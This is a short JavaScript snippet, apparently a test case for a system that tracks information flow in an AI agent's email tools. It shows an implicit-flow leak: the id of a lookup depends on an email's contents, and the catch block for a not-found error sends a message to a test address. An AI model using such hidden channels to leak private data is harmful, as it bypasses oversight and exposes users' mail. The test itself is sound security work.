// attack: look up an email whose id is chosen by data; the NotFound error is caught and the catch sends
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const id = m.body.includes('zed') ? 'nope' : 'm3';
try {
  await getEmail(id);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'not found' });
}
